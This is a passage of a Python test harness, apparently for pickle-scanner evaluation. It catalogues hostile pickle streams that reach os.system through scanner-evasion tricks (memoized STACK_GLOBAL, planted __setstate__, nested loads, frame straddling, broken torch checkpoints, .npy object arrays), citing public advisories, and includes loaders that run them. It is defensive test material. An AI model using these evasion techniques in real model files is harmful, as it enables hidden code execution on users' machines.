        "picklescan #21 https://github.com/mmaitre314/picklescan/pull/21",
        "protocol 0's INST names and calls exec in one opcode, no GLOBAL",
        inst_protocol0,
        PICKLE_LOADS,
    ),
    Hostile(
        "OBJ then POP",
        SPELLINGS,
        fickling_advisory("GHSA-mxhj-88fx-4pcv"),
        "OBJ makes the call and POP drops it, so an analysis of the result never sees it",
        obj_then_pop,
        PICKLE_LOADS,
    ),
    Hostile(
        "STACK_GLOBAL from the memo",
        SPELLINGS,
        "ImaginaryCTF 2023 'Safe Pickle', picklescan #22 "
        "https://github.com/mmaitre314/picklescan/issues/22",
        "the names are memoized, then fetched back with BINGET past decoys for STACK_GLOBAL",
        stack_global_from_memo,
        PICKLE_LOADS,
    ),
    Hostile(
        "STACK_GLOBAL on SHORT_BINSTRING",
        SPELLINGS,
        picklescan_advisory("GHSA-9gvj-pp9x-gcfr"),
        "the names are protocol-1 strings, which the unpickler decodes to str, not unicode opcodes",
        stack_global_binstring,
        PICKLE_LOADS,
    ),
    Hostile(
        "STACK_GLOBAL on computed names",
        SPELLINGS,
        "modelscan #331 https://github.com/protectai/modelscan/issues/331",
        "str.join assembles 'os' and 'system' at load time; STACK_GLOBAL takes the results",
        stack_global_computed,
        PICKLE_LOADS,
    ),
    Hostile(
        "EXT1 after copyreg.add_extension",
        SPELLINGS,
        "modelaudit #623 https://github.com/promptfoo/modelaudit/pull/623",
        "the stream registers os.system as an extension code, then loads it with EXT1",
        ext_registry,
        PICKLE_LOADS,
    ),
    Hostile(
        "__builtin__.eval, protocol 0",
        SPELLINGS,
        "Slaviero, Sour Pickles (Black Hat USA 2011) "
        "https://sensepost.com/cms/resources/conferences/2011/sour_pickles/BH_US_11_Slaviero_Sour_Pickles.pdf",
        "Python 2's module name, mapped to builtins by fix_imports at load",
        builtin_eval_protocol0,
        PICKLE_LOADS,
    ),
    Hostile(
        "BUILD plants the names",
        BUILD_GLOBALS,
        f"modelscan #85 {MODELSCAN_85}",
        "BUILD's slot state sets 'os' and 'system' on a function; dotted GLOBALs read them back",
        build_planted_names,
        PICKLE_LOADS,
    ),
    Hostile(
        "BUILD with sys.modules",
        BUILD_GLOBALS,
        "modelscan #89 https://github.com/protectai/modelscan/issues/89",
        "sys.modules as slot state makes every module a function's attribute; os.system follows",
        build_sys_modules,
        PICKLE_LOADS,
    ),
    Hostile(
        "__setstate__ planted on a class",
        SMUGGLING,
        f"modelscan #85 {MODELSCAN_85}; {fickling_advisory('GHSA-6ggj-6f2q-f7mx')}",
        "BUILD on the Counter class plants os.system as __setstate__; BUILD on a Counter calls it",
        setstate_on_class,
        PICKLE_LOADS,
    ),
    Hostile(
        "__setstate__ planted through slot state",
        SMUGGLING,
        fickling_advisory("GHSA-6ggj-6f2q-f7mx"),
        "slot-state setattr plants os.system as an instance's __setstate__; BUILD calls it",
        setstate_on_instance_slots,
        PICKLE_LOADS,
    ),
    Hostile(
        "_pickle.loads on BINBYTES",
        NESTED,
        "picklescan #25 https://github.com/mmaitre314/picklescan/pull/25",
        "the outer stream only calls _pickle.loads; os.system is inside the bytes it passes",
        nested_binbytes,
        PICKLE_LOADS,
    ),
    Hostile(
        "pickle.loads on _codecs.encode",
        NESTED,
        "picklescan #25 https://github.com/mmaitre314/picklescan/pull/25",
        "protocol 0 spells the inner pickle's bytes as _codecs.encode(text, 'latin1')",
        nested_codecs_text,
        PICKLE_LOADS,
    ),
    Hostile(
        "payload, then truncated",
        BROKEN,
        REVERSINGLABS_NULLIFAI,
        "the call runs, then the stream ends mid-way: the loader raises after the payload",
        broken_truncated,
        PICKLE_LOADS,
    ),
    Hostile(
        "payload, then an invalid opcode",
        BROKEN,
        REVERSINGLABS_NULLIFAI,
        "the call runs, then a byte that is no opcode stops the loader",
        broken_bad_opcode,
        PICKLE_LOADS,
    ),
    Hostile(
        "torch legacy magic number by eval",
        BROKEN,
        picklescan_advisory("GHSA-97f8-7cmv-76j2"),
        "a legacy checkpoint's first pickle computes its magic number with eval; a scanner that "
        "expects a literal gives up on the file",
        torch_legacy_magic,
        PICKLE_LOAD,
    ),
    Hostile(
        "checkpoint with a broken data.pkl",
        BROKEN,
        REVERSINGLABS_NULLIFAI,
        "the nullifAI layout: a checkpoint whose data.pkl runs its payload, then breaks",
        broken_in_checkpoint,
        ZIP_DATA_PKL,
    ),
    Hostile(
        "checkpoint with REDUCE in data.pkl",
        CONTAINERS,
        JFROG_BACKDOORED_MODELS,
        "a torch-style zip whose data.pkl calls os.system, like the backdoored Hugging Face models",
        checkpoint_with_reduce,
        ZIP_DATA_PKL,
    ),
    Hostile(
        "checkpoint with a bad CRC",
        CONTAINERS,
        f"JFrog CVE-2025-10156 {JFROG_ZERO_DAYS}",
        "data.pkl's CRC is wrong: a checking scanner fails; the unpickler stops at STOP first",
        checkpoint_with_bad_crc,
        ZIP_DATA_PKL,
    ),
    Hostile(
        ".npy object array",
        CONTAINERS,
        "CVE-2019-6446 https://nvd.nist.gov/vuln/detail/CVE-2019-6446",
        "an object array's data is a pickle, which numpy.load(allow_pickle=True) unpickles",
        npy_with_reduce,
        NUMPY_LOAD,
    ),
    Hostile(
        "frame straddle, file",
        FRAMES,
        FRAME_DIVERGENCE,
        "BINUNICODE runs past its FRAME: pickle.load(file) runs what pickle.loads reads as text",
        frame_straddle,
        PICKLE_LOAD,
    ),
    Hostile(
        "frame straddle, BytesIO",
        FRAMES,
        FRAME_DIVERGENCE,
        "the same split, by an Unpickler reading an io.BytesIO",
        frame_straddle,
        UNPICKLER_BYTESIO,
    ),
    Hostile(
        "frame straddle, .npy",
        FRAMES,
        FRAME_DIVERGENCE,
        "the same split inside an object array, which numpy.load unpickles from the open file",
        frame_straddle_npy,
        NUMPY_LOAD,
    ),
    Hostile(
        "frame straddle, checkpoint",
        FRAMES,
        FRAME_DIVERGENCE,
        "the same split in data.pkl, which the unpickler reads from the zip member",
        frame_straddle_checkpoint,
        ZIP_DATA_PKL,
    ),
)


# Files and consumers.


FILE_NAME_SAFE = str.maketrans(" /,.'", "_____")


def write_file(hostile: Hostile, directory: Path, marker: str) -> Path:
    """The stream as its consumer finds it on disk."""
    stem = hostile.name.translate(FILE_NAME_SAFE)
    path = directory / (stem + SUFFIXES[hostile.consumer])
    path.write_bytes(hostile.build(marker))
    return path


def checkpoint_member(archive: zipfile.ZipFile) -> str:
    return next(name for name in archive.namelist() if name.endswith("/data.pkl"))


def load_as_consumer(path: Path, consumer: str) -> object:
    """Load the file the way `consumer` does, with the standard library."""
    if consumer == PICKLE_LOADS:
        return pickle.loads(path.read_bytes())
    if consumer == PICKLE_LOAD:
        with open(path, "rb") as file:
            return pickle.load(file)
    if consumer == UNPICKLER_BYTESIO:
        return pickle.Unpickler(io.BytesIO(path.read_bytes())).load()
    if consumer == NUMPY_LOAD:
        import numpy

        return numpy.load(path, allow_pickle=True)
    if consumer == ZIP_DATA_PKL:
        with zipfile.ZipFile(path) as archive, archive.open(checkpoint_member(archive)) as member:
            return pickle.Unpickler(member).load()
    raise ValueError(f"unknown consumer {consumer!r}")


def npy_data_offset(data: bytes) -> int:
    """Where an .npy file's array data (here, the pickle) starts."""
    major = data[6]
    if major == 1:
        return 10 + struct.unpack_from("<H", data, 8)[0]
    return 12 + struct.unpack_from("<I", data, 8)[0]


def stored_member(data: bytes, name: str) -> bytes:
    """A stored zip member's bytes, read past any CRC it carries."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_length + extra_length
    return data[start : start + info.compress_size]


def pickle_part(data: bytes, consumer: str) -> bytes:
    """The pickle inside the consumer's file: the .npy file's array data or
    the checkpoint's data.pkl; the file itself for plain pickles."""
    if consumer == NUMPY_LOAD:
        return data[npy_data_offset(data) :]
    if consumer == ZIP_DATA_PKL:
        return stored_member(data, checkpoint_member(zipfile.ZipFile(io.BytesIO(data))))
    return data
